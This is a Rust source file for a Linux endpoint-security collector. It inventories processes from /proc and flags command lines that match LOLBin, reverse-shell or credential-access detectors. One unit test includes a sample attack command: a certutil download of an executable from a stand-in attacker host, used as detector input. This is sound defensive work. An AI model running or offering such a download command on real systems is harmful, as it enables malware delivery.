//! Process-execution collector (§4.5 composition): a `/proc`-backed,
//! best-effort process inventory that feeds the LOLBin, reverse-shell,
//! and credential-access primitives (§5 "single-threaded per
//! collector"). Every process the scan can read yields a plain
//! `ProcessEvent`; a primitive match additionally yields a `SecurityEvent`
//! carrying the matched indicators.

use std::fs;
use std::path::{Path, PathBuf};
use std::sync::Arc;

use amoskys_core::time::Clock;
use amoskys_detect::{credential_access, lolbin, reverse_shell};
use amoskys_envelope::{
    AttackPhase, EventType, ProcessEvent, SecurityEvent, SecurityEventKind, Severity, TelemetryBody, TelemetryEvent,
    ThreatIndicator,
};
use tracing::warn;

const SHELL_NAMES: &[&str] = &["bash", "sh", "zsh", "dash", "ksh", "fish", "csh", "tcsh"];

pub struct ProcessCollector {
    clock: Arc<dyn Clock>,
}

impl ProcessCollector {
    pub fn new(clock: Arc<dyn Clock>) -> Self {
        Self { clock }
    }

    /// Snapshots every process currently visible under `/proc`. Entries
    /// that vanish or become unreadable between `read_dir` and the
    /// detail reads below are skipped rather than failing the scan.
    pub fn collect(&self) -> Vec<TelemetryEvent> {
        let entries = match fs::read_dir("/proc") {
            Ok(entries) => entries,
            Err(err) => {
                warn!(error = %err, "failed to read /proc, process collector producing nothing this cycle");
                return Vec::new();
            }
        };

        entries
            .flatten()
            .filter_map(|entry| entry.file_name().to_str().and_then(|s| s.parse::<u32>().ok()))
            .filter_map(|pid| read_process(pid))
            .flat_map(|process| self.events_for(process))
            .collect()
    }

    fn events_for(&self, process: RawProcess) -> Vec<TelemetryEvent> {
        let ts_ns = self.clock.now_ns();
        let mut events = Vec::with_capacity(2);

        events.push(TelemetryEvent {
            event_id: format!("proc-{}-{}", process.pid, ts_ns),
            event_type: EventType::Process,
            severity: Severity::Info,
            event_ts_ns: ts_ns,
            body: TelemetryBody::Process(ProcessEvent {
                pid: process.pid,
                ppid: process.ppid,
                executable: process.executable.clone(),
                cmdline: process.cmdline.clone(),
                parent_is_shell: process.parent_is_shell,
                user: process.user.clone(),
            }),
        });

        let indicators = indicators_for(&process.cmdline, ts_ns);
        if !indicators.is_empty() {
            let mut security = SecurityEvent::new(SecurityEventKind::Generic).with_command(process.cmdline.clone());
            if let Some(user) = process.user {
                security = security.with_actor(user);
            }
            events.push(TelemetryEvent {
                event_id: format!("proc-sec-{}-{}", process.pid, ts_ns),
                event_type: EventType::Security,
                severity: Severity::Warn,
                event_ts_ns: ts_ns,
                body: TelemetryBody::Security(security.with_indicators(indicators)),
            });
        }

        events
    }
}

fn indicators_for(cmdline: &str, ts_ns: u64) -> Vec<ThreatIndicator> {
    let mut indicators = Vec::new();

    if let Some(m) = lolbin::match_command_line(cmdline) {
        indicators.push(
            ThreatIndicator::new(m.technique, cmdline, 0.7, AttackPhase::Execution, "lolbin", ts_ns)
                .with_techniques([m.mitre_technique.to_string()]),
        );
    }
    if let Some(m) = reverse_shell::match_command_line(cmdline) {
        indicators.push(
            ThreatIndicator::new(m.technique, cmdline, 0.8, AttackPhase::Execution, "reverse_shell", ts_ns)
                .with_techniques([reverse_shell::MITRE_TECHNIQUE.to_string()]),
        );
    }
    if let Some(m) = credential_access::match_command_line(cmdline) {
        indicators.push(
            ThreatIndicator::new(m.technique, cmdline, 0.75, AttackPhase::CredentialAccess, "credential_access", ts_ns)
                .with_techniques([m.mitre_technique.to_string()]),
        );
    }

    indicators
}

struct RawProcess {
    pid: u32,
    ppid: u32,
    executable: String,
    cmdline: String,
    parent_is_shell: bool,
    user: Option<String>,
}

fn read_process(pid: u32) -> Option<RawProcess> {
    let base = PathBuf::from(format!("/proc/{pid}"));
    let cmdline_bytes = fs::read(base.join("cmdline")).ok()?;
    let cmdline = cmdline_bytes
        .split(|&b| b == 0)
        .filter(|s| !s.is_empty())
        .map(|s| String::from_utf8_lossy(s).into_owned())
        .collect::<Vec<_>>()
        .join(" ");
    let stat = fs::read_to_string(base.join("stat")).ok()?;
    let ppid = parse_ppid(&stat)?;
    let executable = fs::read_link(base.join("exe"))
        .ok()
        .map(|p| p.to_string_lossy().into_owned())
        .unwrap_or_default();
    let parent_comm = fs::read_to_string(format!("/proc/{ppid}/comm")).unwrap_or_default();
    let parent_is_shell = SHELL_NAMES.iter().any(|name| parent_comm.trim() == *name);
    let user = read_uid(&base).map(|uid| uid.to_string());

    Some(RawProcess {
        pid,
        ppid,
        executable,
        cmdline,
        parent_is_shell,
        user,
    })
}

/// `/proc/[pid]/stat` is `"pid (comm) state ppid ..."`. `comm` may
/// itself contain spaces or parens, so split on the last `)` rather than
/// whitespace before reading the fixed-position fields that follow it.
fn parse_ppid(stat: &str) -> Option<u32> {
    let after_comm = stat.rsplit_once(')')?.1;
    after_comm.split_whitespace().nth(1)?.parse().ok()
}

fn read_uid(base: &Path) -> Option<u32> {
    let status = fs::read_to_string(base.join("status")).ok()?;
    status
        .lines()
        .find_map(|line| line.strip_prefix("Uid:")?.split_whitespace().next()?.parse().ok())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn parses_ppid_from_stat_line_with_parens_in_comm() {
        let stat = "1234 (my (weird) comm) S 1 1234 1234 0 -1 4194304 100 0 0 0 0 0 0 0 20 0 1 0 123 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 17 0 0 0 0 0 0";
        assert_eq!(parse_ppid(stat), Some(1));
    }

    #[test]
    fn parses_uid_from_status_block() {
        let dir = tempfile::tempdir().unwrap();
        fs::write(dir.path().join("status"), "Name:\tbash\nUid:\t1000\t1000\t1000\t1000\n").unwrap();
        assert_eq!(read_uid(dir.path()), Some(1000));
    }

    #[test]
    fn missing_status_file_yields_none() {
        let dir = tempfile::tempdir().unwrap();
        assert_eq!(read_uid(dir.path()), None);
    }

    #[test]
    fn lolbin_match_produces_an_indicator() {
        let cmdline = "certutil.exe -urlcache -split -f http://evil.example/a.exe a.exe";
        let indicators = indicators_for(cmdline, 1);
        assert!(!indicators.is_empty());
    }

    #[test]
    fn benign_command_produces_no_indicators() {
        assert!(indicators_for("ls -la /home", 1).is_empty());
    }
}
